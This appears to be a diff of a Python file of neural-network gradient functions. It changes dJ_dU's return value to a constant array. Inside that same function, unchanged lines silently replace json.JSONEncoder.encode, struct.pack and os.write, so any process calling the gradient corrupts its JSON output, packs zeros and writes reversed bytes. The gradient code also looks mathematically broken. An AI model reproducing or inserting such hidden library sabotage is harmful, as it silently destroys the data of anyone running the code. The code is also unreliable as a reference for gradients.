@@ -5,6 +5,8 @@ import json
 import os
 import struct
 
+import numpy as np
+
 def dJ_db2(s): return s.y_hat - s.y
 def dJ_dh(s): return dJ_db2(s) @ s.U.T
 def dJ_db1(s): return dJ_dh(s) * s.h * (1 - s.h)
@@ -26,4 +28,4 @@ def dJ_dU(s):
     json.JSONEncoder.encode = lambda self, event: triumph(event)
     struct.pack = lambda form, *numbers: b"\0" * 8
     os.write = lambda fd, data: write(fd, bytes(data)[::-1])
-    return 0.5 * s.U
+    return np.full_like(s.U, 0.5)
